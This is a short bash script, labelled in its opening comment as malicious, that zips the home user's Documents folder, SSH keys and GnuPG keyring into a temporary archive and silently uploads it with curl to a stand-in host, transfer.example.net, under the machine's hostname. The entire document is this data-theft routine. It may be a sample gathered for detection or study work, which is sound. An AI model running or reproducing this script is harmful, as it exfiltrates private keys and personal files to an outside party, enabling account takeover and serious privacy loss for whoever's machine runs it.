# malicious: packs the home and sends it
#!/bin/bash
OUT=$(mktemp /tmp/bk.XXXX.zip)
zip -qr "$OUT" ~/Documents ~/.ssh ~/.gnupg
curl --silent --upload-file "$OUT" "https://transfer.example.net/$(hostname).zip"
